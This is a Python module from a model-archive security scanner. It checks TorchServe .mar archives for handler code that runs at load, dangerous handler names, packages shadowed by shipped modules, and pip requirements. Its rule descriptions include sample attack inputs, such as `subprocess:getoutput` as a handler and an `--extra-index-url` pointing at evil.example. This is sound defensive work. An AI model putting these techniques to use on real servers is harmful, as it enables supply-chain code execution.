"""TorchServe model archives (`.mar`): the handler module the server imports, the code shipped with it, and
the packages it asks the server to install.

`torch-model-archiver` writes a zip (or, with `--archive-format no-archive`, a folder) holding
`MAR-INF/MANIFEST.json`, the serialized model, the handler and any extra files, all at the top level.
The server extracts it and its worker (`ts/model_loader.py`) imports the manifest's `handler`
(`name[.py][:function]`) with `importlib.import_module(name)` from the model folder, and only when that
fails from `ts.torch_handler` (the built-in handlers): a shipped `image_classifier.py` therefore replaces
the built-in of that name. It then calls the entry function with `(None, context)`, or instantiates the
module's only class and calls its `initialize(context)`, which for `BaseHandler` imports `modelFile`,
instantiates its only class and `torch.load`s / `torch.jit.load`s / `torch._export.aot_load`s the
serialized file. With `install_py_dep_per_model=true` the frontend first pip-installs `requirementsFile`.
The shipped Python is analysed with `core/pysource` (import time, constructors and `initialize`); the
serialized model and the other members are scanned by the zip walker with their own analysers.
"""

from __future__ import annotations

import json
import os
import sys
import zipfile
from collections.abc import Callable, Generator, Iterator, Sequence
from typing import Any

from modelshield.core import callables, pysource
from modelshield.core.findings import Finding, Location, truncate
from modelshield.core.handler import Context, Handler
from modelshield.core.rules import Category, Rule, Severity
from modelshield.core.source import Source
from modelshield.formats._archive import read_member, zip_names
from modelshield.formats._json import json_object
from modelshield.formats.configs import _requirements

MANIFEST = "MAR-INF/MANIFEST.json"

SHIPPED_CODE = Rule(
    id="TSV001",
    title="TorchServe archive ships code the server runs at load",
    severity=Severity.MEDIUM,
    category=Category.LOAD_TIME_CODE,
    overview="The archive's handler (or its `modelFile`) is a Python module shipped in the archive: the "
    "TorchServe worker imports it, instantiates its class and calls `initialize` when the model is "
    "registered. The shipped `.py` files are analysed statically: process execution, dynamic code, network "
    "access and file writes at import time, in constructors or in `initialize` raise the severity. A shipped "
    "module named like a built-in handler replaces it, and a serialized file that is a shared library (`.so`, "
    "loaded with `torch._export.aot_load`) is native code.",
    attack="A `.mar` is code plus weights by design: whoever registers it on a server runs the handler "
    "with the server's rights. An attacker publishes an archive whose handler starts a shell at import, "
    "or ships `image_classifier.py` so that the manifest looks like it uses the built-in handler.",
    impact="Arbitrary code execution in the TorchServe worker when the model is registered.",
    remediation="Register only archives whose handler code you reviewed, or rebuild the archive yourself "
    "with a built-in handler and weights in a weights-only format.",
    example='`"handler": "my_handler.py"` with `my_handler.py` calling `os.system(...)` at module level.',
)
HANDLER_TARGET = Rule(
    id="TSV002",
    title="TorchServe handler names a dangerous or unknown installed module",
    severity=Severity.HIGH,
    category=Category.LOAD_TIME_CODE,
    overview="The manifest's `handler` is neither a built-in TorchServe handler nor a module shipped in "
    "the archive, so the worker imports it from the server's environment and calls `<module>.<function>"
    "(None, context)` (or instantiates its only class). It is judged with the scanner's catalogue of callables.",
    attack='`handler: "os:system"`-style names make the worker import and call an installed callable '
    "with the archive's arguments; an unknown module name depends on what the server happens to have installed.",
    impact="Whatever the named module does at import and the named function does when called.",
    remediation="Use a built-in handler name or ship the handler module in the archive, and review it.",
    example='`"handler": "subprocess:getoutput"`',
)
SHADOWED_MODULE = Rule(
    id="TSV003",
    title="TorchServe archive ships a module named like an installed package",
    severity=Severity.HIGH,
    category=Category.LOAD_TIME_CODE,
    overview="A top-level `.py` file (or package folder) of the archive has the name of a standard-library "
    "module or of a package the scanner knows (`numpy`, `torch`, `json`...). The model folder is on the "
    "worker's import path (unverified: set by the frontend through PYTHONPATH), so a later import of that "
    "name by the handler or a library can load the archive's file instead.",
    attack="The archive looks like it only ships a harmless handler; its `torchvision.py` or `PIL/__init__.py` "
    "runs when the built-in handler imports that package.",
    impact="The shipped module's code runs in the worker, under a trusted name.",
    remediation="Do not register the archive; a model never needs to ship a module under another package's name.",
    example="`numpy.py` at the top of a `.mar` next to a built-in `image_classifier` handler.",
)
INSTALLS_PACKAGES = Rule(
    id="TSV004",
    title="TorchServe archive asks the server to install Python packages",
    severity=Severity.MEDIUM,
    category=Category.MODEL_DEPENDENCY,
    overview="The manifest names a `requirementsFile`; with `install_py_dep_per_model=true` in the server's "
    "configuration, the frontend pip-installs it before the model loads. Installing a package runs its build "
    "code (source distributions) and its `.pth` files; index options, URLs, VCS links and local archives "
    "fetch code from wherever the archive's author chose (high). The requirements are in the finding's details.",
    attack="The archive's handler is clean, but its `requirements.txt` installs a typosquatted package or "
    "points `--extra-index-url` at the attacker's index, whose setup.py runs during installation.",
    impact="Code execution on the server at install time, outside the model's own files.",
    remediation="Keep `install_py_dep_per_model` off, and install reviewed, pinned packages in the server image.",
    example="`requirements.txt` with `--extra-index-url https://evil.example/simple` and `torchvision-utils`.",
)
NOT_ANALYSED = Rule(
    id="TSV005",
    title="TorchServe archive not fully analysed",
    severity=Severity.MEDIUM,
    category=Category.LOAD_TIME_CODE,
    overview="The manifest could not be read, or a shipped Python file, the handler or the requirements file "
    "is missing, larger than the bound or could not be read, or the archive ships more Python files than the "
    "bound, so some of the code the worker runs was not judged.",
    attack="An attacker pads the handler past the bound, or hides the payload in one file too many.",
    impact="Unknown: part of the code was not analysed.",
    remediation="Review the archive's Python files by hand before registering it.",
)
RULES = (SHIPPED_CODE, HANDLER_TARGET, SHADOWED_MODULE, INSTALLS_PACKAGES, NOT_ANALYSED)

#: The handlers of `ts/torch_handler` that a manifest names by module name (torchserve 0.12).
BUILT_IN_HANDLERS = frozenset(
    """base_handler image_classifier image_segmenter object_detector text_classifier text_handler vision_handler
    densenet_handler dali_image_classifier dali_handler trt_llm_handler vllm_handler""".split()
)
#: Methods the worker calls while loading: constructors and the handler's `initialize(context)`.
LOAD_METHODS = pysource.CONSTRUCTORS | {"initialize", "_load_pickled_model", "_load_torchscript_model"}
MAX_FILE = 1024 * 1024
MAX_FILES = 64
#: Python analysed per archive (about two seconds per megabyte): real handlers are kilobytes.
MAX_CODE_BYTES = 2 * 1024 * 1024
#: Files Python imports as extension modules (`import name` finds `name.cpython-311-x86_64-linux-gnu.so`).
NATIVE_SUFFIXES = (".so", ".pyd")
MAX_MANIFEST = 1024 * 1024
MAX_REQUIREMENTS_FILE = 1024 * 1024
_MARKERS = (b'"archiverVersion"', b'"runtime"')
#: Standard-library names nothing imports while serving (CPython's own test suite), common in model folders.
_NEVER_IMPORTED = frozenset({"test"})

Reader = Callable[[str, int], tuple[bytes | None, str]]


def manifest_model(doc: Any) -> dict[str, Any] | None:
    """The manifest's `model` section, if `doc` is a TorchServe manifest."""
    if not isinstance(doc, dict) or not isinstance(doc.get("model"), dict):
        return None
    model: dict[str, Any] = doc["model"]
    return model if isinstance(model.get("handler"), str) and ("archiverVersion" in doc or "runtime" in doc) else None


def handler_parts(handler: str) -> tuple[str, str | None]:
    """`ts/model_loader._load_handler_file`: `dir/name.py:function` -> ('name', 'function')."""
    module, _, function = handler.partition(":")
    module = module.removesuffix(".py").split("/")[-1]
    return module, function or None


def _module_of(name: str) -> str | None:
    """The top-level module a member provides (`x.py`, `x/__init__.py`, `x/...`), if a plain name."""
    top = name.split("/", 1)[0]
    module = top.removesuffix(".py") if "/" not in name else top
    return module if module.isidentifier() and (name.endswith(".py") or "/" in name) else None


def shadows(module: str) -> bool:
    """Whether a module a model puts first on the import path would replace a standard or known one."""
    if module in _NEVER_IMPORTED:
        return False
    if module in sys.stdlib_module_names or module in ("ts", "torch", "torchvision", "PIL", "numpy"):
        return True
    return callables.judge(module, "").kind is not callables.Kind.UNKNOWN


class Archive:
    """One archive's members as the worker sees them, however they are stored."""

    def __init__(self, names: Sequence[str], read: Reader, locate: Callable[[str], Location]) -> None:
        self.names = list(names)
        self.read = read
        self.locate = locate

    def finding(
        self, rule: Rule, name: str, evidence: str, severity: Severity | None = None, **details: Any
    ) -> Finding:
        return Finding(rule, self.locate(name), evidence, severity, details)


def analyse(archive: Archive, doc: dict[str, Any]) -> Iterator[Finding]:
    """Every finding about a manifest and the files next to it."""
    model = doc["model"]
    handler, function = handler_parts(model["handler"])
    python = sorted(n for n in archive.names if n.endswith(".py"))
    shipped = {m for n in archive.names if (m := _module_of(n))}
    loaded: dict[str, str] = {}  # module file -> why the worker imports it at load
    if handler in shipped:
        built_in = " (it replaces the built-in handler of that name)" if handler in BUILT_IN_HANDLERS else ""
        package = f"{handler}/__init__.py"
        loaded[package if package in archive.names else f"{handler}.py"] = f"the manifest's handler{built_in}"
    elif handler not in BUILT_IN_HANDLERS:
        yield from _installed_handler(archive, handler, function)
    model_file = model.get("modelFile")
    if isinstance(model_file, str) and model_file:
        loaded.setdefault(model_file.split("/")[-1], "the manifest's modelFile (imported by BaseHandler)")
    for name, why in loaded.items():
        if name not in archive.names:
            yield archive.finding(NOT_ANALYSED, MANIFEST, f"{why} {name} is not in the archive")
    methods = LOAD_METHODS | ({function} if function else set())
    if len(python) > MAX_FILES:
        yield archive.finding(NOT_ANALYSED, MANIFEST, f"{len(python)} Python files; only {MAX_FILES} analysed")
    budget = MAX_CODE_BYTES
    for name in python[:MAX_FILES]:
        if budget <= 0:
            yield archive.finding(
                NOT_ANALYSED, name, f"{name} not analysed: over {MAX_CODE_BYTES} bytes of Python in all"
            )
            continue
        budget -= yield from _analyse_file(archive, name, loaded.get(name), frozenset(methods))
    for module in sorted(shipped):
        if module != handler and shadows(module):
            evidence = f"ships {module!r}, the name of an installed or standard module, at the top of the model folder"
            yield archive.finding(SHADOWED_MODULE, MANIFEST, evidence, module=module)
    for name in archive.names:
        if "/" not in name and name.endswith(NATIVE_SUFFIXES) and name != model.get("serializedFile"):
            evidence = f"{name} is a native extension module on the import path: importing it runs native code"
            yield archive.finding(SHIPPED_CODE, name, evidence, Severity.HIGH)
    yield from _serialized(archive, model)
    yield from _requirements_finding(archive, model)


def _installed_handler(archive: Archive, module: str, function: str | None) -> Iterator[Finding]:
    verdict = callables.judge(module, function or "")
    if verdict.trusted:
        return
    call = f"{module}.{function}(None, context)" if function else f"the only class of {module}, then initialize"
    evidence = f"handler {module!r} is neither shipped nor built in: the worker imports it and calls {call}; "
    evidence += f"it {verdict.kind.value} ({verdict.reason})"
    severity = max(verdict.severity, Severity.MEDIUM)
    yield archive.finding(HANDLER_TARGET, MANIFEST, evidence, severity, callable=f"{module}.{function or ''}")


def _analyse_file(
    archive: Archive, name: str, why: str | None, methods: frozenset[str]
) -> Generator[Finding, None, int]:
    """Findings for one shipped file; returns the bytes analysed (the archive's analysis budget)."""
    data, problem = archive.read(name, MAX_FILE)
    if data is None:
        yield archive.finding(NOT_ANALYSED, name, f"{name} {problem}")
        return 0
    problems, _ = pysource.analyse_source(data.decode("utf-8", "replace"), name, methods)
    if not problems and why is None:
        return len(data)
    shown = "; ".join(str(p) for p in problems[:3])
    what = f"{name} is {why}, imported when the model loads" if why else f"{name} is shipped on the import path"
    severity = max([Severity.MEDIUM if why else Severity.INFO, *(p.severity for p in problems)])
    evidence = what + (f"; {shown}" if shown else "; no dangerous call found by static analysis")
    yield archive.finding(SHIPPED_CODE, name, evidence, severity, problems=[str(p) for p in problems[:20]])
    return len(data)


def _serialized(archive: Archive, model: dict[str, Any]) -> Iterator[Finding]:
    serialized = model.get("serializedFile")
    if isinstance(serialized, str) and serialized.endswith(".so"):
        evidence = f"serializedFile {serialized!r} is a shared library: torch._export.aot_load loads it as native code"
        yield archive.finding(SHIPPED_CODE, serialized, evidence, Severity.HIGH)


def _requirements_finding(archive: Archive, model: dict[str, Any]) -> Iterator[Finding]:
    name = model.get("requirementsFile")
    if not isinstance(name, str) or not name:
        return
    data, problem = archive.read(name.split("/")[-1], MAX_REQUIREMENTS_FILE)
    if data is None:
        yield archive.finding(NOT_ANALYSED, MANIFEST, f"requirementsFile {name} {problem}")
        return
    requirements = _requirements.parse(data.decode("utf-8", "replace").splitlines())
    if not requirements:
        return
    unusual = [r for r in requirements if r.unusual]
    evidence = f"pip installs {_requirements.summary(requirements)} when install_py_dep_per_model is on"
    if unusual:
        evidence += "; " + "; ".join(f"{truncate(r.text, 80)}: {r.unusual}" for r in unusual[:3])
    yield archive.finding(
        INSTALLS_PACKAGES,
        name,
        evidence,
        Severity.HIGH if unusual else None,
        requirements=[r.text for r in requirements],
    )


class TorchServeArchiveHandler(Handler):
    """The zip as a whole: the zip walker scans each member on its own."""

    name = "torchserve"
    label = "TorchServe model archive"
    extensions = frozenset({".mar"})
    rules = RULES
    companion = True

    def detect(self, source: Source) -> bool:
        names = zip_names(source)
        return names is not None and MANIFEST in names

    def scan(self, source: Source, ctx: Context) -> Iterator[Finding]:
        with zipfile.ZipFile(source.stream()) as zf:
            infos = {i.filename: i for i in zf.infolist()}

            def read(name: str, limit: int) -> tuple[bytes | None, str]:
                info = infos.get(name)
                return (None, "is not in the archive") if info is None else read_member(zf, info, limit)

            data, problem = read(MANIFEST, MAX_MANIFEST)
            doc = _load_json(data)
            model = manifest_model(doc)
            if model is None:
                yield ctx.finding(
                    NOT_ANALYSED, f"manifest {problem or 'is not a TorchServe manifest'}", member=MANIFEST
                )
                return
            archive = Archive(list(infos), read, ctx.location.child)
            yield from analyse(archive, doc)


def _load_json(data: bytes | None) -> Any:
    try:
        return None if data is None else json.loads(data.decode("utf-8-sig"))
    except (UnicodeDecodeError, ValueError, RecursionError):
        return None


class TorchServeManifestHandler(Handler):
    """`MAR-INF/MANIFEST.json` of an extracted (`no-archive`) model folder, with the files beside it."""

    name = "torchserve-manifest"
    label = "TorchServe model manifest"
    rules = RULES

    def detect(self, source: Source) -> bool:
        return manifest_model(json_object(source, *_MARKERS)) is not None

    def scan(self, source: Source, ctx: Context) -> Iterator[Finding]:
        doc = json_object(source, *_MARKERS)
        model = manifest_model(doc)
        if doc is None or model is None:
            return
        if ctx.location.members:
            # At the top of a zip, TorchServeArchiveHandler reads it with its siblings. Under a folder of an
            # archive (`--archive-format tgz` writes `<name>/MAR-INF/...`) the siblings are not at hand.
            if ctx.location.members[-1] != MANIFEST:
                yield from _unread_siblings(ctx, model)
            return
        folder = os.path.dirname(os.path.dirname(os.path.abspath(ctx.location.path)))
        names = _folder_names(folder)

        def read(name: str, limit: int) -> tuple[bytes | None, str]:
            path = os.path.join(folder, name)
            if name not in names or not os.path.isfile(path):
                return None, "is not in the model folder"
            if os.path.getsize(path) > limit:
                return None, f"is over the {limit}-byte bound"
            with open(path, "rb") as handle:
                return handle.read(limit), ""

        yield from analyse(Archive(names, read, lambda name: Location(os.path.join(folder, name))), doc)


def _unread_siblings(ctx: Context, model: dict[str, Any]) -> Iterator[Finding]:
    """A manifest read alone: the handler is judged by name, the shipped code is reported as not analysed."""
    handler, function = handler_parts(model["handler"])
    if handler in BUILT_IN_HANDLERS and not model.get("modelFile"):
        return  # unless the archive ships a file of that name: not known here
    evidence = (
        f"handler {model['handler']!r}: the files beside this manifest (in a tgz archive) are not analysed with it; "
        "a shipped handler module runs when the model loads"
    )
    yield ctx.finding(NOT_ANALYSED, evidence)
    verdict = callables.judge(handler, function or "")
    if verdict.severity >= Severity.HIGH:
        yield ctx.finding(
            HANDLER_TARGET, f"handler {model['handler']!r}: it {verdict.kind.value}", severity=verdict.severity
        )


def _folder_names(folder: str) -> list[str]:
    """Top-level files of the model folder and one level of package folders (bounded)."""
    names: list[str] = []
    try:
        entries = sorted(os.listdir(folder))[: MAX_FILES * 4]
    except OSError:
        return names
    for entry in entries:
        path = os.path.join(folder, entry)
        if os.path.isfile(path):
            names.append(entry)
        elif os.path.isdir(path) and entry.isidentifier():
            names += [f"{entry}/{f}" for f in sorted(os.listdir(path))[:MAX_FILES] if f.endswith(".py")]
    return names
